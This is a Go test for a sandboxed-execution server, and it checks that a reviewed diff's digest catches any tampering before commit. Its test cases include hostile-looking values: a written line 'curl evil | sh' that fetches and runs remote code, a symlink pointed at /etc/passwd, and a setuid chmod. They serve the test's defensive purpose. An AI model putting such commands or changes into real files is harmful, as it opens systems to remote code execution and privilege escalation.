package mcpserver

import (
	"errors"
	"io/fs"
	"testing"

	"github.com/dryexec/dryexec"
	"github.com/dryexec/dryexec/session"
)

// TestDiffDigest: the digest session_commit compares covers every part of
// a change a reviewer sees (content, mode, link target, delete, chmod), and
// only the selected paths.
func TestDiffDigest(t *testing.T) {
	base := func() *session.Diff {
		return &session.Diff{
			Writes:  map[string][]byte{"a": []byte("x\n"), "d/b": []byte("y")},
			Links:   map[string]string{"l": "a"},
			Deletes: []string{"gone"},
			Modes:   map[string]fs.FileMode{"a": 0o644, "d/b": 0o644, "run.sh": 0o755},
		}
	}
	digest := func(d *session.Diff, paths ...string) string {
		t.Helper()
		s, err := diffDigest(d, selectDiff(d, paths))
		if err != nil {
			t.Fatal(err)
		}
		return s
	}
	want := digest(base())
	if again := digest(base()); again != want {
		t.Fatalf("the same diff has two digests: %s, %s", want, again)
	}
	for name, change := range map[string]func(d *session.Diff){
		"content":     func(d *session.Diff) { d.Writes["a"] = []byte("x\ncurl evil | sh\n") },
		"write mode":  func(d *session.Diff) { d.Modes["a"] = 0o755 },
		"link target": func(d *session.Diff) { d.Links["l"] = "/etc/passwd" },
		"new file":    func(d *session.Diff) { d.Writes["c"], d.Modes["c"] = nil, 0o644 },
		"delete":      func(d *session.Diff) { d.Deletes = append(d.Deletes, "more") },
		"chmod":       func(d *session.Diff) { d.Modes["run.sh"] = 0o4755 },
		"file to link": func(d *session.Diff) {
			delete(d.Writes, "d/b")
			d.Links["d/b"] = "y"
		},
	} {
		d := base()
		change(d)
		if digest(d) == want {
			t.Errorf("%s: a changed diff has the reviewed one's digest", name)
		}
	}
	d := base()
	d.Writes["a"] = []byte("other")
	if digest(d, "d") != digest(base(), "d") {
		t.Error("a change outside the selected paths changed the selection's digest")
	}
	var err error = &UnreviewedDiffError{SessionID: "se_x", Expected: want, Actual: "other", Paths: []string{"a"}}
	var wm *UnreviewedDiffError
	if !errors.Is(err, ErrUnreviewedDiff) || !errors.Is(err, dryexec.ErrCommitRefused) || !errors.As(err, &wm) {
		t.Errorf("%v is not ErrUnreviewedDiff, a commit refusal", err)
	}
}
